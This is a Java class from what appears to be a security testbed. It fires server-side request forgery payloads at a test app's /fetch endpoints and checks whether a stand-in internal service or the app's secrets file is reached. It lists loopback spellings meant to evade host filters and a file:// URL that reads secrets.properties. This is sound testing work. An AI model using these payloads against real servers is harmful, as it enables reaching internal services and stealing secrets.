package secplane.testbeds.attacks.injection;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.Properties;
import java.util.UUID;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * Server-side request forgery (CWE-918) through {@code /fetch?url=} ({@code URLConnection}) and
 * {@code /fetch/client?url=} (the JDK {@code HttpClient}). The attacker names an internal service,
 * a loopback {@link InternalService}, in the spellings that evade naive host checks; the evidence is
 * the service recording the request's unique path. The {@code file:} variant reads the app's secrets
 * file instead, and its evidence is the content.
 *
 * <p>Left out on purpose: hex ({@code 0x7f000001}), which the JDK does not read as an address; octal
 * ({@code 0177.0.0.1}), which it reads as the public 177.0.0.1; and {@code 127.1} for the HttpClient,
 * whose {@code java.net.URI} finds no host in it ("unsupported URI").
 */
public final class SsrfAttack extends InjectionAttack {

    public enum Variant implements InjectionVariant {
        LOOPBACK("/fetch", "http://127.0.0.1:<port>/<path>"),
        LOCALHOST("/fetch", "http://localhost:<port>/<path>"),
        DECIMAL("/fetch", "http://2130706433:<port>/<path>"),
        SHORT_FORM("/fetch", "http://127.1:<port>/<path>"),
        ZERO_PADDED("/fetch", "http://127.000.000.001:<port>/<path>"),
        ANY_ADDRESS("/fetch", "http://0.0.0.0:<port>/<path>"),
        IPV6_LOOPBACK("/fetch", "http://[::1]:<port6>/<path>"),
        IPV4_MAPPED("/fetch", "http://[::ffff:127.0.0.1]:<port>/<path>"),
        FILE_SCHEME("/fetch", "file://<base>/private/secrets.properties"),
        CLIENT_LOOPBACK("/fetch/client", "http://127.0.0.1:<port>/<path>"),
        CLIENT_LOCALHOST("/fetch/client", "http://localhost:<port>/<path>"),
        CLIENT_DECIMAL("/fetch/client", "http://2130706433:<port>/<path>"),
        CLIENT_ZERO_PADDED("/fetch/client", "http://127.000.000.001:<port>/<path>"),
        CLIENT_ANY_ADDRESS("/fetch/client", "http://0.0.0.0:<port>/<path>"),
        CLIENT_IPV6_LOOPBACK("/fetch/client", "http://[::1]:<port6>/<path>"),
        CLIENT_IPV4_MAPPED("/fetch/client", "http://[::ffff:127.0.0.1]:<port>/<path>");

        private final String endpoint;
        private final String payload;

        Variant(String endpoint, String payload) {
            this.endpoint = endpoint;
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return endpoint;
        }

        @Override
        public String payload() {
            return payload;
        }
    }

    @Override
    public Category category() {
        return Category.SSRF;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String path = twin.path(variant.endpoint());
        if (variant == Variant.FILE_SCHEME) {
            HttpResponse<String> response = get(target, path, "url",
                    variant.payload().replace("<base>", target.docBase().toString()));
            Properties secrets = secrets(target);
            String leaked = leakedSecret(secrets, "", response.body());
            return result(variant, twin, leaked != null, response.statusCode(), leaked != null
                    ? "the server read its own " + SECRETS_FILE + " (" + leaked + ") through a file: URL"
                    : "no secret in: " + abbreviate(response.body()));
        }
        try (InternalService internal = InternalService.start()) {
            String unique = "admin/" + variant.name().toLowerCase() + "-" + UUID.randomUUID();
            String url = variant.payload()
                    .replace("<port6>", String.valueOf(internal.ipv6Port()))
                    .replace("<port>", String.valueOf(internal.port()))
                    .replace("<path>", unique);
            HttpResponse<String> response = get(target, path, "url", url);
            boolean hit = internal.awaitHit("/" + unique, Duration.ofMillis(twin == Twin.VULNERABLE ? 2000 : 300));
            return result(variant, twin, hit, response.statusCode(), hit
                    ? "the internal service received GET /" + unique + " from the app (" + url + ")"
                    : "the internal service was not called for " + url + " (" + abbreviate(response.body()) + ")");
        }
    }
}
